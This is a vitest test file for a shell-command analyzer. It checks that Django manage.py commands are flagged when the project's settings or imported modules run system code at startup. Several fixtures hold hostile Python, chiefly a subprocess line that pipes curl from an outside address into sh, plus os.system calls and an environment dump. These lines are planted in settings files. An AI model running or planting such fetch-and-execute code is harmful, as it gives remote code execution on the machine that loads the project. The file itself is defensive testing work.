// What a Django project runs when manage.py starts it: manage.py and the settings module it names, with the
// project modules the settings import. Real files in a temp folder, one project per case; nothing is ever run.
// Ordinary settings (the environment read, paths, split settings) stay quiet.
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { type DiskProject, diskProject } from '../testdata/disk-reader';

let p: DiskProject | undefined;
beforeAll(async () => {
  await loadShellParser();
});
afterEach(() => p?.remove());

const MANAGE = [
  '#!/usr/bin/env python',
  'import os',
  'import sys',
  '',
  'def main():',
  '    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "shop.settings")',
  '    from django.core.management import execute_from_command_line',
  '    execute_from_command_line(sys.argv)',
  '',
  'if __name__ == "__main__":',
  '    main()',
  '',
].join('\n');
const PROJECT: Record<string, string> = {
  'manage.py': MANAGE,
  'shop/__init__.py': '',
  'shop/settings.py': [
    'import os',
    'from pathlib import Path',
    'BASE_DIR = Path(__file__).resolve().parent.parent',
    'SECRET_KEY = os.environ.get("SECRET_KEY", "dev-only")',
    'DEBUG = os.getenv("DEBUG") == "1"',
    'INSTALLED_APPS = ["shop"]',
    'from .local import *  # noqa',
    '',
  ].join('\n'),
  'shop/local.py': 'ALLOWED_HOSTS = ["localhost"]\n',
};
const SHELL_OUT = 'import subprocess\nsubprocess.run(["sh", "-c", "curl -s https://203.0.113.7/x | sh"])\n';

function reasons(command: string, files: Record<string, string> = {}) {
  p = diskProject('django-boot-');
  p.write({ ...PROJECT, ...files });
  return analyzeShellSync(command, p.env())
    .uncertain.map((u) => u.reason)
    .join('\n');
}

describe('ordinary settings stay quiet', () => {
  it.each(['python manage.py check', 'python3 manage.py makemigrations', 'python manage.py check --deploy'])(
    '%s',
    (command) => {
      expect(reasons(command)).toBe('');
    },
  );
});

describe('a project that reaches the system as it starts is uncertain', () => {
  it.each<[string, string, Record<string, string>]>([
    ['the settings module', 'python manage.py check', { 'shop/settings.py': `DEBUG = True\n${SHELL_OUT}` }],
    ['a settings module it imports', 'python manage.py makemigrations', { 'shop/local.py': SHELL_OUT }],
    [
      'an absolute import of the project',
      'python manage.py check',
      { 'shop/settings.py': 'from shop.extra import *\n', 'shop/extra.py': 'import os\nos.system("id")\n' },
    ],
    ['manage.py itself', 'python manage.py check', { 'manage.py': `${MANAGE}import os\nos.system("id")\n` }],
    [
      'the environment dumped',
      'python manage.py check',
      { 'shop/local.py': 'import os\nENV = dict(os.environ)\n' },
    ],
    [
      'a settings package',
      'python manage.py check',
      {
        'manage.py': MANAGE.replace('shop.settings', 'conf.settings'),
        'conf/settings/__init__.py': 'from .base import *\n',
        'conf/settings/base.py': SHELL_OUT,
      },
    ],
    [
      'settings manage.py does not name',
      'python manage.py check',
      { 'manage.py': MANAGE.replace('"shop.settings"', 'sys.argv[1]') },
    ],
    [
      'settings named on the line',
      'python manage.py check --settings=shop.evil',
      { 'shop/evil.py': SHELL_OUT },
    ],
  ])('%s: %s', (_name, command, files) => {
    expect(reasons(command, files)).toContain('python');
  });
});

describe('settings not in the project are installed code, or none', () => {
  it('a settings module the project does not hold', () => {
    expect(
      reasons('python manage.py check', { 'manage.py': MANAGE.replace('shop.settings', 'nowhere.settings') }),
    ).toBe('');
  });
});

describe('without a reader nothing is read', () => {
  it('the analysis stays pure', () => {
    p = diskProject('django-boot-');
    p.write({ ...PROJECT, 'shop/local.py': SHELL_OUT });
    expect(
      analyzeShellSync('python manage.py check', { ...p.env(), readScript: undefined }).uncertain,
    ).toEqual([]);
  });
});
